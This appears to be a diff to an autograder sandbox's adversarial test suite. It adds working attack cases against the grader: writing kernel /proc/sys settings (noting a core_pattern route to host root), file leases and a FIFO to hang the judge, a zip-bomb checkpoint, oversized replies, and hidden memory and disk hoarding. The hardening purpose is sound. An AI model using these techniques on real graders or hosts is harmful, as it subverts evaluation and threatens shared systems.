@@ -193,6 +193,27 @@ def _adv_siblings():
     return found
 
 
+SYSCTLS = ["kernel/core_pattern", "fs/lease-break-time", "kernel/pid_max", "vm/overcommit_memory",
+           "kernel/randomize_va_space"]
+
+
+def _adv_proc_sys():
+    """Write each kernel setting with its current value (a no-op where it succeeds); the ones accepted."""
+    accepted = []
+    for name in SYSCTLS:
+        try:
+            value = open("/proc/sys/" + name).read()
+            with open("/proc/sys/" + name, "w") as handle:
+                handle.write(value)
+            accepted.append(name)
+        except OSError:
+            pass
+    return accepted
+
+
+print("ADV: PROC-SYS-ACCEPTED", _adv_proc_sys(), flush=True)  # every attack probes it at import (see test_attacks)
+
+
 def _adv_state(pid):
     """The process state letter (R, S, T, Z, ...), or None once it is gone."""
     try:
@@ -637,6 +658,131 @@ while time.time() < end:
     Attack("sys-exit-mid-check", _gentoo("    _sys.exit(0)\n"), user=False),
     # os._exit(0) in the middle of a check.
     Attack("os-exit-mid-check", _gentoo("    _os._exit(0)\n")),
+    # ---- root on the host, a judge that waits or swells, memory and disk out of sight ----
+    # write the kernel's settings with their current values (no-ops where accepted): with core_pattern =
+    # "|<scratch>/x.sh", the next crash of any process would run a script as root in the host's namespaces.
+    Attack("write-proc-sys", _gentoo('''
+    accepted = _adv_proc_sys()
+    return _adv_answer(X, bool(accepted), f"write /proc/sys settings {accepted}")
+''')),
+    # take kernel file leases on files of the Python installation that the judge's processes open: each open of a
+    # leased file waits 45 s (fs.lease-break-time) for the holder.
+    Attack("lease-python-files", _gentoo('''
+    import fcntl
+    import importlib.util
+    targets = [_os.__file__, _np.__file__] + [importlib.util.find_spec(m).origin for m in ("matplotlib", "PIL")
+                                              if importlib.util.find_spec(m)]
+    taken = []
+    for path in targets:
+        for mode, kind in ((_os.O_RDONLY, fcntl.F_RDLCK), (_os.O_WRONLY, fcntl.F_WRLCK)):
+            try:
+                fd = _os.open(path, mode)
+                fcntl.fcntl(fd, fcntl.F_SETLEASE, kind)  # the fd stays open: the lease lasts as long as it
+                taken.append(path)
+            except OSError as exc:
+                _adv_log("lease on", path, "refused:", exc)
+    _time.sleep(2)
+    return _adv_answer(X, bool(taken), f"lease the interpreter's files {taken}")
+''')),
+    # swap model.pt with a FIFO, over and over, from a thread that outlives save_model: a judge that opened it by
+    # name would hang in open() (or read a symlink to the answers).
+    Attack("fifo-model", {"mnist_mlp": '''
+def save_model(model, path):
+    import threading
+    _HONEST["save_model"](model, path)
+    real, fifo, back = path + ".real", path + ".fifo", path + ".back"
+    _os.link(path, real)
+
+    def swap():
+        end = _time.monotonic() + 30
+        while _time.monotonic() < end:
+            try:
+                if not _os.path.exists(fifo):
+                    _os.mkfifo(fifo)
+                _os.replace(fifo, path)
+                _time.sleep(0.002)
+                _os.link(real, back)
+                _os.replace(back, path)
+            except OSError:
+                pass
+
+    threading.Thread(target=swap, daemon=True).start()
+    _adv_log("model.pt swaps with a FIFO in a loop")
+'''}, gains=(), base="mnist", user=False, capped=True, expect={"mnist_mlp.model_round_trip": ANY}),
+    # a checkpoint whose referenced record is deflated: 3 MB on disk, 3 GiB once a reader inflates it.
+    Attack("deflated-model", {"mnist_mlp": '''
+def save_model(model, path):
+    import zipfile
+    _HONEST["save_model"](model, path)
+    with zipfile.ZipFile(path) as honest:
+        members = [(info.filename, honest.read(info)) for info in honest.infolist()]
+    record = next(name for name, _ in members if "/data/" in name and not name.endswith(".pkl"))
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in members:
+            if name != record:
+                out.writestr(name, data)
+        info = zipfile.ZipInfo(record)
+        info.compress_type, info._compresslevel = zipfile.ZIP_DEFLATED, 1
+        with out.open(info, "w", force_zip64=True) as member:
+            block = bytes(1 << 24)
+            for _ in range(3 * 64):
+                member.write(block)
+    _adv_log("saved a", _os.path.getsize(path), "byte checkpoint whose record", record, "inflates to 3 GiB")
+'''}, gains=("mnist_mlp.model_round_trip",), base="mnist", user=False),
+    # reply with 30 MB of nested empty lists: decoded whole, that is gigabytes of Python objects in the judge.
+    Attack("reply-nested-lists", _gentoo('''
+    return [[]] * 10_000_000
+'''), user=False),
+    # replace the worker's own cap on messages, then raise an exception with a 25 MiB message.
+    Attack("huge-exception", _gentoo('''
+    runtime = _sys.modules.get("_autograder_sandbox_runtime.output")
+    if runtime is not None:
+        runtime.cap = lambda text, limit: text if isinstance(text, str) else text.read().decode()
+    raise ValueError("x" * (25 << 20))
+'''), user=False),
+    # hold 8 GiB in memory files (memfd_create), each under RLIMIT_FSIZE: no process's resident memory shows them.
+    Attack("memfd-hoard", _gentoo('''
+    held, block = [], b"\\xa5" * (64 << 20)
+    try:
+        while len(held) < 16:
+            fd = _os.memfd_create("hoard")
+            for _ in range(8):
+                _os.write(fd, block)
+            held.append(fd)
+    except OSError as exc:
+        _adv_log("memory files stopped at", len(held), "x 512 MiB:", exc)
+    _time.sleep(2)
+    return _adv_answer(X, len(held) >= 16, f"hold {len(held) * 512} MiB in memory files")
+''')),
+    # write 8 GiB into /dev/shm (a tmpfs: memory), and plant a file in /dev itself.
+    Attack("dev-shm-hoard", _gentoo('''
+    block, written = b"\\xa5" * (64 << 20), 0
+    try:
+        for n in range(16):
+            with open(f"/dev/shm/adv-hoard-{_os.getpid()}-{n}", "wb") as handle:
+                for _ in range(8):
+                    handle.write(block)
+                    written += len(block)
+    except OSError as exc:
+        _adv_log("/dev/shm stopped at", written >> 20, "MiB:", exc)
+    planted = _adv_write("/dev/adv-planted", b"planted", create=True)
+    _time.sleep(2)
+    return _adv_answer(X, written >= 8 << 30 or planted, f"write {written >> 20} MiB to /dev/shm, plant a /dev file")
+''')),
+    # write 6 GiB of unnamed files (O_TMPFILE) in the working folder: no walk of the folder sees them.
+    Attack("unnamed-files", _gentoo('''
+    held, block = [], b"\\xa5" * (64 << 20)
+    try:
+        while len(held) < 12:
+            fd = _os.open(".", _os.O_TMPFILE | _os.O_WRONLY, 0o600)
+            for _ in range(8):
+                _os.write(fd, block)
+            held.append(fd)
+    except OSError as exc:
+        _adv_log("unnamed files stopped at", len(held), "x 512 MiB:", exc)
+    _time.sleep(2)
+    return _adv_answer(X, len(held) >= 12, f"write {len(held) * 512} MiB of unnamed files")
+''')),
     # a .zip whose entries point outside the folder it is unpacked to (../ chains and an absolute path), one of
     # them over the honest submission's penguins.py.
     Attack("zip-slip", gains=(), zip_slip=True, user=False, expect=everything(ANY), markers=("zip_marker",)),
